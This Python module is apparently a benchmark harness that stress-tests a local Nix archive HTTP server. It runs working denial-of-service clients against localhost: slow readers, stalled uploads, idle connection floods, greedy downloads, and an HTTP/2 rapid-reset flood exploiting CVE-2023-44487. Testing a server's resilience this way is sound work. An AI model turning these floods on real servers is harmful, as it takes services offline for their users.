"""Clients that mean no good, or are slow: `python -m benchmarks.attacks ATTACK PORT PATH`, until its stdin ends.

They come from an address of their own, 127.0.0.2, and take little of the cores themselves. The line `at work` is written when all
connections are there.
"""

from __future__ import annotations

import asyncio
import socket
import sys
from collections.abc import Callable, Coroutine
from contextlib import suppress

_FROM = "127.0.0.2"
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, _SETTINGS, 0, 0, 0, 0, 0])
_BURST = 64
"""Streams that are begun and reset in one write."""


async def slow_readers(port: int, path: str, ready: asyncio.Event) -> None:
    """300 clients ask for a large answer, and take 1 KiB of it in a second."""

    async def read(connection: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
        while True:
            await asyncio.sleep(1)
            if not await loop.sock_recv(connection, 1024):
                return

    await _many(300, port, read, ready, small_buffer=True)


async def half_sent_uploads(port: int, _path: str, ready: asyncio.Event) -> None:
    """300 clients send half of a NAR, and then a little of it now and then."""

    async def send(connection: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        head = f"PUT /nar/{'0' * 52}.nar HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {1 << 20}\r\n\r\n".encode()
        begin = b"".join(len(each).to_bytes(8, "little") + each.ljust(-len(each) % 8 + len(each), b"\0") for each in _FILE)
        await loop.sock_sendall(connection, head + begin + (1 << 20).to_bytes(8, "little") + bytes(1 << 19))
        while True:
            await asyncio.sleep(2)
            await loop.sock_sendall(connection, bytes(300))

    await _many(300, port, send, ready)


async def rapid_resets(port: int, path: str, ready: asyncio.Event) -> None:
    """4 connections over HTTP/2 begin requests, and reset each at once (CVE-2023-44487), as fast as the server takes them."""

    async def reset(connection: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, _PREFACE)
        block = b"".join(
            b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value
            for name, value in (
                (b":method", b"GET"),
                (b":scheme", b"http"),
                (b":path", path.encode()),
                (b":authority", b"localhost"),
            )
        )
        drain = asyncio.create_task(_drain(connection))
        try:
            for first in range(1, 1 << 31, 2 * _BURST):
                streams = range(first, first + 2 * _BURST, 2)
                await loop.sock_sendall(
                    connection,
                    b"".join(_frame(_HEADERS, 5, each, block) + _frame(_RESET, 0, each, bytes([0, 0, 0, 8])) for each in streams),
                )
        finally:
            drain.cancel()

    await _many(4, port, reset, ready)


async def idle_connections(port: int, _path: str, ready: asyncio.Event) -> None:
    """1,000 clients connect, and say nothing; they come again when the server has closed their connection."""

    async def wait(connection: socket.socket) -> None:
        await asyncio.get_running_loop().sock_recv(connection, 1)

    await _many(1000, port, wait, ready)


async def greedy(port: int, path: str, ready: asyncio.Event) -> None:
    """100 clients ask for a large answer, again and again, as fast as it comes."""

    async def read(connection: socket.socket) -> None:
        loop = asyncio.get_running_loop()
        while True:
            await loop.sock_sendall(connection, f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
            left = int((await loop.sock_recv(connection, 1 << 16)).partition(b"content-length: ")[2].partition(b"\r")[0])
            while left > 0 and (piece := await loop.sock_recv(connection, 1 << 20)):
                left -= len(piece)

    await _many(100, port, read, ready)


_FILE = (b"nix-archive-1", b"(", b"type", b"regular", b"contents")
ATTACKS: dict[str, Callable[[int, str, asyncio.Event], Coroutine[None, None, None]]] = {
    "slow-readers": slow_readers,
    "half-sent-uploads": half_sent_uploads,
    "rapid-resets": rapid_resets,
    "idle-connections": idle_connections,
    "greedy": greedy,
}


async def _many(
    count: int,
    port: int,
    client: Callable[[socket.socket], Coroutine[None, None, None]],
    ready: asyncio.Event,
    *,
    small_buffer: bool = False,
) -> None:
    """`count` clients, each of which comes again when its connection has ended."""
    loop = asyncio.get_running_loop()
    connected = 0

    async def again_and_again() -> None:
        nonlocal connected
        is_first = True
        while True:
            with suppress(OSError, ValueError), socket.socket() as connection:
                if small_buffer:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.setblocking(False)
                connection.bind((_FROM, 0))
                await loop.sock_connect(connection, ("127.0.0.1", port))
                connected += is_first
                is_first = False
                if connected == count:
                    ready.set()
                await client(connection)
            await asyncio.sleep(0.5)

    async with asyncio.TaskGroup() as group:
        for _ in range(count):
            group.create_task(again_and_again())


async def _drain(connection: socket.socket) -> None:
    with suppress(OSError):
        while await asyncio.get_running_loop().sock_recv(connection, 1 << 16):
            pass


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


async def main() -> None:
    attack, port, path = sys.argv[1:]
    ready = asyncio.Event()
    work = asyncio.create_task(ATTACKS[attack](int(port), path, ready))
    await ready.wait()
    print("at work", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    work.cancel()


if __name__ == "__main__":
    asyncio.run(main())
